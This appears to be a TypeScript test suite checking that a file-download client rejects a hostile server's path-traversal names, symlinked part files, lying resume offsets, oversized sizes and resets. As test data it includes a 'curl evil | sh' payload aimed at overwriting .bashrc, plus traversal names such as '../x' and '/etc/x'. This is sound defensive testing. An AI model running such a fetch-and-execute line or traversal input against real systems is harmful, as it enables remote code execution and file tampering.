/**
 * The file client against a hostile server (test/files/fake-server.ts): names that would
 * leave the download folder, resume points and sizes that lie, a reset connection, and
 * aborting. Nothing may be written outside the chosen folder, no file replaced unasked, and
 * the bytes on disk are always the bytes whose SHA-256 was checked.
 */

import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ErrorCode } from '../../src/errors.js';
import { FilesClient, PART_SUFFIX } from '../../src/files/client.js';
import { codeOf } from '../codes.js';
import { type FakeServer, fakeServer, type Handler, loginToFake } from './fake-server.js';

const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
const file = (path: string, size = 4) => ({ path, type: 'file', size, mtime: 0 });

/** Every file under `dir`, relative, with its bytes' hash. */
async function tree(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const e of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (e.isFile()) {
      const p = path.join(e.parentPath, e.name);
      out[path.relative(dir, p)] = sha(await readFile(p));
    }
  }
  return out;
}

describe('files client against a hostile server', () => {
  let dir: string;
  let outside: string;
  let downloads: string;
  let server: FakeServer | undefined;
  let client: FilesClient | undefined;

  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'sockit-client-safety-'));
    outside = path.join(dir, 'home');
    downloads = path.join(outside, 'downloads');
    await mkdir(downloads, { recursive: true });
    await writeFile(path.join(outside, '.bashrc'), 'mine');
  });

  afterEach(async () => {
    client?.close();
    client = undefined;
    await server?.close();
    server = undefined;
    await rm(dir, { recursive: true, force: true });
  });

  async function connect(handler: Handler): Promise<FilesClient> {
    server = await fakeServer(handler);
    client = await loginToFake(server);
    return client;
  }

  /** Serves `get` of `bytes`, answering with `start` overrides. */
  function serveGet(bytes: Buffer, start: Record<string, unknown> = {}): Handler {
    return (request, peer) => {
      if (request.op !== 'get') return;
      const from = (start.from as number | undefined) ?? 0;
      peer.send({ ok: true, size: bytes.length, from, mtime: 0, ...start });
      peer.raw(bytes.subarray(from));
      peer.send({ ok: true, sha256: sha(bytes) });
    };
  }

  it("refuses a stat answer of '..' and a listing aimed outside: nothing written outside", async () => {
    const evil = Buffer.from('curl evil | sh\n');
    const c = await connect((request, peer) => {
      if (request.op === 'stat')
        peer.send({ ok: true, entry: { path: '..', type: 'dir', size: 0, mtime: 0 } });
      else if (request.op === 'list')
        peer.send({ ok: true, count: 1 }, Buffer.from(JSON.stringify([file('.bashrc', evil.length)])));
      else serveGet(evil)(request, peer);
    });
    const before = await tree(outside);
    expect(await codeOf(c.stat('photos'))).toBe(ErrorCode.BAD_REQUEST);
    expect(await tree(outside)).toEqual(before);
    expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('mine');
  });

  it("refuses a stat answer for another path than asked ('report.pdf' answered as '.bash_profile')", async () => {
    let answer = '.bash_profile';
    const c = await connect((request, peer) => {
      if (request.op === 'stat')
        peer.send({ ok: true, entry: { path: answer, type: 'file', size: 4, mtime: 0 } });
    });
    const before = await tree(outside);
    expect(await codeOf(c.stat('report.pdf'))).toBe(ErrorCode.BAD_REQUEST);
    expect(await codeOf(c.stat('docs/report.pdf'))).toBe(ErrorCode.BAD_REQUEST);
    expect(await tree(outside)).toEqual(before);
    // The server names the path as it normalizes it: '' and '.' segments dropped, '.' for the home.
    answer = 'docs/report.pdf';
    expect((await c.stat('docs//./report.pdf')).path).toBe('docs/report.pdf');
    answer = '.';
    expect((await c.stat('')).path).toBe('.');
    expect(await codeOf(c.stat('docs'))).toBe(ErrorCode.BAD_REQUEST);
  });

  it('refuses listings with unsafe names', async () => {
    const names = ['../x', 'a/../../x', '/etc/x', 'a\\b', 'x\0y', '..', '.', '', 'a//b', 'a/./b', 'a/'];
    let next = '';
    const c = await connect((request, peer) => {
      if (request.op === 'list')
        peer.send({ ok: true, count: 2 }, Buffer.from(JSON.stringify([file('fine'), file(next)])));
    });
    for (const name of names) {
      next = name;
      expect(await codeOf(c.list('', true)), JSON.stringify(name)).toBe(ErrorCode.BAD_REQUEST);
    }
    next = 'a/b.txt';
    expect((await c.list('', true)).map((e) => e.path)).toEqual(['fine', 'a/b.txt']);
  });

  it("refuses a resume point other than the offered part's length; disk bytes are the verified ones", async () => {
    const bytes = randomBytes(100_000);
    const dest = path.join(downloads, 'f.bin');
    // The part holds 1,000 bytes; the server claims to continue at 10.
    await writeFile(dest + PART_SUFFIX, bytes.subarray(0, 1000));
    const c = await connect(serveGet(bytes, { from: 10 }));
    expect(await codeOf(c.download('f.bin', dest))).toBe(ErrorCode.BAD_REQUEST);
    expect((await readdir(downloads)).includes('f.bin')).toBe(false);
    expect(await readFile(dest + PART_SUFFIX)).toEqual(bytes.subarray(0, 1000));
  });

  it("offers no part through a link at the part's name, and writes nothing through it", async () => {
    const bytes = randomBytes(100_000);
    const dest = path.join(downloads, 'f.bin');
    await symlink(path.join(outside, '.bashrc'), dest + PART_SUFFIX);
    let offered: unknown;
    const c = await connect((request, peer) => {
      if (request.op === 'get') offered = request.offset ?? 0;
      return serveGet(bytes)(request, peer);
    });
    expect(await codeOf(c.download('f.bin', dest))).toBe(ErrorCode.PATH_DENIED);
    expect(offered).toBe(0);
    expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('mine');
    expect((await readdir(downloads)).includes('f.bin')).toBe(false);
  });

  it('resumes at the offered length, and then what is on disk hashes as verified', async () => {
    const bytes = randomBytes(100_000);
    const dest = path.join(downloads, 'f.bin');
    await writeFile(dest + PART_SUFFIX, bytes.subarray(0, 1000));
    const c = await connect(serveGet(bytes, { from: 1000 }));
    const result = await c.download('f.bin', dest);
    expect(result).toEqual({ size: bytes.length, sha256: sha(bytes), resumedFrom: 1000 });
    expect(sha(await readFile(dest))).toBe(result.sha256);
  });

  it('refuses an announced 2^53 bytes before writing, by maxFileSize and by free space', async () => {
    const huge = (request: Record<string, unknown>, peer: Parameters<Handler>[1]): void => {
      if (request.op !== 'get') return;
      peer.send({ ok: true, size: 2 ** 53 - 1, from: 0, mtime: 0 });
      peer.raw(randomBytes(1 << 20));
    };
    const c = await connect(huge);
    expect(await codeOf(c.download('big', path.join(downloads, 'big'), { maxFileSize: 1 << 30 }))).toBe(
      ErrorCode.FILE_TOO_LARGE,
    );
    expect(await readdir(downloads)).toEqual([]);
    c.close();
    // No limit given: the free space is.
    const d = await connect(huge);
    expect(await codeOf(d.download('big', path.join(downloads, 'big')))).toBe(ErrorCode.FILE_TOO_LARGE);
    expect(await readdir(downloads)).toEqual([]);
  });

  it('takes no more than the announced size from a server that sends more', async () => {
    const bytes = randomBytes(50_000);
    // What follows the announced 1000 bytes is read as the next frame's length: random, it
    // is a length of at most 16 MiB one time in 256, whose rest the client (with no stall
    // timeout) would wait for. Too large for any frame, it is refused at once.
    bytes.writeUInt32BE(0xffff_ffff, 1000);
    const dest = path.join(downloads, 'f.bin');
    const c = await connect((request, peer) => {
      if (request.op !== 'get') return;
      peer.send({ ok: true, size: 1000, from: 0, mtime: 0 });
      peer.raw(bytes);
      peer.send({ ok: true, sha256: sha(bytes) });
    });
    const code = await codeOf(c.download('f.bin', dest));
    expect(code).not.toBe('resolved');
    expect(await readdir(downloads)).not.toContain('f.bin');
    for (const name of await readdir(downloads)) {
      expect((await readFile(path.join(downloads, name))).length).toBeLessThanOrEqual(1000);
    }
  });

  it('never replaces an existing file without overwrite, and does with it', async () => {
    const bytes = randomBytes(10_000);
    const dest = path.join(downloads, 'f.bin');
    await writeFile(dest, 'keep me');
    const c = await connect(serveGet(bytes));
    expect(await codeOf(c.download('f.bin', dest))).toBe(ErrorCode.EXISTS);
    expect(await readFile(dest, 'utf8')).toBe('keep me');
    expect(await readdir(downloads)).toEqual(['f.bin']);
    const result = await c.download('f.bin', dest, { overwrite: true });
    expect(result.sha256).toBe(sha(bytes));
    expect(await readFile(dest)).toEqual(bytes);
    expect(await readdir(downloads)).toEqual(['f.bin']);
  });

  it('aborts a download mid-way: ERR_ABORTED, no part file left', async () => {
    const controller = new AbortController();
    const dest = path.join(downloads, 'f.bin');
    const c = await connect((request, peer) => {
      if (request.op !== 'get') return;
      peer.send({ ok: true, size: 10_000_000, from: 0, mtime: 0 });
      // Half the bytes, then silence: the client waits until aborted.
      peer.raw(randomBytes(5_000_000));
    });
    const work = c.download('f.bin', dest, {
      signal: controller.signal,
      progress: (n) => {
        if (n >= 1_000_000) controller.abort();
      },
    });
    expect(await codeOf(work)).toBe(ErrorCode.ABORTED);
    expect(await readdir(downloads)).toEqual([]);
    // Every other operation takes a signal too, an aborted one refuses at once.
    expect(await codeOf(c.list('', false, { signal: controller.signal }))).toBe(ErrorCode.ABORTED);
  });

  it('aborts a stuck stat, list and connect with ERR_ABORTED', async () => {
    const c = await connect(() => {}); // never answers
    for (const op of [
      (signal: AbortSignal) => c.stat('x', { signal }),
      (signal: AbortSignal) => c.list('', false, { signal }),
    ]) {
      const controller = new AbortController();
      const work = op(controller.signal);
      setTimeout(() => controller.abort(), 50);
      expect(await codeOf(work)).toBe(ErrorCode.ABORTED);
    }
    const aborted = AbortSignal.abort();
    expect(
      await codeOf(FilesClient.connect({ host: '127.0.0.1', port: server?.port, signal: aborted })),
    ).toBe(ErrorCode.ABORTED);
  });

  it('turns a connection reset mid-download into ERR_CONNECTION_CLOSED, keeping the part to resume', async () => {
    const dest = path.join(downloads, 'f.bin');
    const c = await connect((request, peer) => {
      if (request.op !== 'get') return;
      peer.send({ ok: true, size: 1_000_000, from: 0, mtime: 0 });
      peer.raw(randomBytes(300_000));
      setTimeout(() => peer.reset(), 50);
    });
    expect(await codeOf(c.download('f.bin', dest))).toBe(ErrorCode.CONNECTION_CLOSED);
    expect(await readdir(downloads)).toEqual([`f.bin${PART_SUFFIX}`]);
  });
});
